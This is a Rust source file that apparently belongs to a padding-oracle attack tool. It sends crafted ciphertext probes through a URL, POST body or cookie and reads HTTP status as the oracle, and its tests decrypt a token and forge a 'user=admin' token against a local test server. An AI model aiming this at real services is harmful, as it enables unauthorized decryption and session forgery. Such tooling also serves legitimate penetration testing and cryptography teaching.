// A padding oracle reached over HTTP. The encoded sample is located in the URL,
// the request body or a cookie, and every probe is sent with the sample
// replaced by the probe's `iv || block`. HTTP 200 means the padding was valid.
use crate::{encoding::url_encode, oracle::Decision, Encoding, Error, Logger, Oracle, Result};

use reqwest::{
    header::{CONTENT_TYPE, COOKIE},
    Client, Method, StatusCode,
};

pub const DEFAULT_RETRY_COUNT: usize = 3;

#[derive(Debug, Clone)]
pub struct HttpOracleConfig {
    pub url: String,
    pub sample: String,
    pub encoding: Encoding,
    pub data: Option<String>,
    pub cookies: Vec<String>,
    /// Defaults to POST when there is a body, GET otherwise.
    pub method: Option<Method>,
    pub retry_count: usize,
}

impl HttpOracleConfig {
    pub fn new(url: impl Into<String>, sample: impl Into<String>, encoding: Encoding) -> Self {
        Self {
            url: url.into(),
            sample: sample.into(),
            encoding,
            data: None,
            cookies: Vec::new(),
            method: None,
            retry_count: DEFAULT_RETRY_COUNT,
        }
    }
}

/// Text with the sample cut out of it.
#[derive(Debug, Clone)]
struct Template {
    pre: String,
    post: String,
}

impl Template {
    fn find(original: &str, sample: &str) -> Option<Self> {
        let index = original.find(sample)?;
        Some(Self {
            pre: original[..index].to_string(),
            post: original[index + sample.len()..].to_string(),
        })
    }

    fn render(&self, payload: &str) -> String {
        format!("{}{}{}", self.pre, payload, self.post)
    }
}

#[derive(Debug, Clone)]
enum Cookie {
    Fixed(String),
    Templated { name: String, value: Template },
}

pub struct HttpOracle {
    client: Client,
    url: String,
    url_template: Option<Template>,
    body: Option<String>,
    body_template: Option<Template>,
    cookies: Vec<Cookie>,
    method: Method,
    encoding: Encoding,
    retry_count: usize,
    log: Logger,
}

impl HttpOracle {
    pub fn new(config: HttpOracleConfig) -> Result<Self> {
        let sample = config.sample.as_str();
        let url_template = Template::find(&config.url, sample);
        let body_template = config
            .data
            .as_deref()
            .and_then(|data| Template::find(data, sample));

        let cookies: Vec<Cookie> = config
            .cookies
            .iter()
            .map(|cookie| match cookie.split_once('=') {
                Some((name, value)) => match Template::find(value, sample) {
                    Some(value) => Cookie::Templated {
                        name: name.to_string(),
                        value,
                    },
                    None => Cookie::Fixed(cookie.clone()),
                },
                None => Cookie::Fixed(cookie.clone()),
            })
            .collect();
        let cookie_found = cookies
            .iter()
            .any(|c| matches!(c, Cookie::Templated { .. }));

        if url_template.is_none() && body_template.is_none() && !cookie_found {
            return Err(Error::config(
                "Sample not found in either URL, POST data or Cookies",
            ));
        }

        let method = match (config.method, &config.data) {
            (Some(method), _) => method,
            (None, Some(_)) => Method::POST,
            (None, None) => Method::GET,
        };

        Ok(Self {
            client: Client::new(),
            url: config.url,
            url_template,
            body: config.data,
            body_template,
            cookies,
            method,
            encoding: config.encoding,
            retry_count: config.retry_count.max(1),
            log: Logger::default(),
        })
    }

    pub fn with_logger(mut self, log: Logger) -> Self {
        self.log = log;
        self
    }

    fn build_request(&self, payload: &str) -> reqwest::RequestBuilder {
        let url_payload = url_encode(payload);
        let url = match &self.url_template {
            Some(template) => template.render(&url_payload),
            None => self.url.clone(),
        };
        let mut request = self.client.request(self.method.clone(), url);

        let body = match (&self.body_template, &self.body) {
            (Some(template), _) => Some(template.render(payload)),
            (None, Some(body)) => Some(body.clone()),
            (None, None) => None,
        };
        if let Some(body) = body {
            request = request
                .header(CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(body);
        }

        if !self.cookies.is_empty() {
            let header = self
                .cookies
                .iter()
                .map(|cookie| match cookie {
                    Cookie::Fixed(c) => c.clone(),
                    Cookie::Templated { name, value } => {
                        format!("{}={}", name, value.render(&url_payload))
                    }
                })
                .collect::<Vec<_>>()
                .join("; ");
            request = request.header(COOKIE, header);
        }
        request
    }

    async fn send(&self, payload: &str) -> reqwest::Result<(StatusCode, usize)> {
        let response = self.build_request(payload).send().await?;
        let status = response.status();
        let body = response.bytes().await?;
        Ok((status, body.len()))
    }
}

impl Oracle for HttpOracle {
    async fn test(&self, iv: &[u8], block: &[u8]) -> Result<Decision> {
        let payload = self.encoding.encode(&[iv, block].concat());

        let mut attempts = 0;
        loop {
            attempts += 1;
            match self.send(&payload).await {
                Ok((status, length)) => {
                    let info = format!("Payload: {} | {} ({}B)", payload, status, length);
                    return Ok(Decision::new(status == StatusCode::OK).with_debug_info(info));
                }
                Err(e) if attempts >= self.retry_count => {
                    return Err(Error::OracleTransport(e.to_string()));
                }
                Err(e) => {
                    self.log.warn(format_args!(
                        "Request failed ({}/{}): {}",
                        attempts, self.retry_count, e
                    ));
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::{spawn_server, Cracker, Decrypter, Encrypter, LocalOracle, TargetServer};

    const KEY: [u8; 16] = *b"YELLOW SUBMARINE";

    #[test]
    fn new_requires_sample_somewhere_in_request() {
        let config = HttpOracleConfig::new("http://localhost/check?token=abc", "xyz", Encoding::Hex);

        let oracle = HttpOracle::new(config);

        assert!(matches!(oracle, Err(Error::Configuration(_))));
    }

    #[test]
    fn new_finds_sample_in_cookie() {
        let mut config = HttpOracleConfig::new("http://localhost/check", "abcd", Encoding::Hex);
        config.cookies = vec!["session=1".to_string(), "token=abcd".to_string()];

        let oracle = HttpOracle::new(config).unwrap();

        assert_eq!(oracle.method, Method::GET);
        assert!(matches!(&oracle.cookies[0], Cookie::Fixed(c) if c == "session=1"));
        assert!(matches!(&oracle.cookies[1], Cookie::Templated { name, .. } if name == "token"));
    }

    #[test]
    fn new_defaults_to_post_when_body_given() {
        let mut config = HttpOracleConfig::new("http://localhost/check", "abcd", Encoding::Hex);
        config.data = Some("token=abcd".to_string());

        let oracle = HttpOracle::new(config).unwrap();

        assert_eq!(oracle.method, Method::POST);
    }

    #[test]
    fn build_request_substitutes_payload_into_url_and_cookie() {
        let mut config = HttpOracleConfig::new(
            "http://localhost/check?token=SAMPLE&x=1",
            "SAMPLE",
            Encoding::Base64,
        );
        config.cookies = vec!["auth=v1.SAMPLE".to_string()];
        let oracle = HttpOracle::new(config).unwrap();

        let request = oracle.build_request("a+b/c=").build().unwrap();

        assert_eq!(
            request.url().as_str(),
            "http://localhost/check?token=a%2Bb%2Fc%3D&x=1"
        );
        assert_eq!(
            request.headers()[COOKIE].to_str().unwrap(),
            "auth=v1.a%2Bb%2Fc%3D"
        );
    }

    #[tokio::test]
    async fn http_oracle_decrypts_token_from_target_server() {
        let oracle = LocalOracle::new(KEY);
        let sample = oracle.encrypt(b"I go crazy when I hear a cymbal", &[9u8; 16]);
        let server = TargetServer::new(oracle, Encoding::Base64);
        let addr = spawn_server("127.0.0.1:0", server).await.unwrap();
        let token = Encoding::Base64.encode(&sample);
        let http_oracle = HttpOracle::new(HttpOracleConfig::new(
            format!("{}/check?token={}", addr, url_encode(&token)),
            url_encode(&token),
            Encoding::Base64,
        ))
        .unwrap();
        let cracker = Cracker::new(http_oracle, 16)
            .with_concurrency(16)
            .verify_last_byte(true);

        let plaintext = Decrypter::new(cracker).decrypt(&sample).await.unwrap();

        assert_eq!(plaintext, b"I go crazy when I hear a cymbal");
    }

    #[tokio::test]
    async fn http_oracle_forges_token_through_post_body() {
        let oracle = LocalOracle::new(KEY);
        let sample = oracle.encrypt(b"user=guest", &[1u8; 16]);
        let server = TargetServer::new(oracle.clone(), Encoding::Hex);
        let addr = spawn_server("127.0.0.1:0", server).await.unwrap();
        let token = Encoding::Hex.encode(&sample);
        let mut config = HttpOracleConfig::new(format!("{}/check", addr), &token, Encoding::Hex);
        config.data = Some(format!("token={}", token));
        let cracker = Cracker::new(HttpOracle::new(config).unwrap(), 16)
            .with_concurrency(16)
            .verify_last_byte(true);

        let forged = Encrypter::new(cracker).encrypt(b"user=admin").await.unwrap();

        assert_eq!(oracle.decrypt(&forged).unwrap(), b"user=admin");
    }

    #[tokio::test]
    async fn transport_failure_is_reported_after_retries() {
        // Nothing listens on this port once the listener is dropped.
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        drop(listener);
        let oracle = HttpOracle::new(HttpOracleConfig::new(
            format!("http://{}/check?token=00", addr),
            "00",
            Encoding::Hex,
        ))
        .unwrap();

        let result = oracle.test(&[0u8; 16], &[0u8; 16]).await;

        assert!(matches!(result, Err(Error::OracleTransport(_))));
    }
}
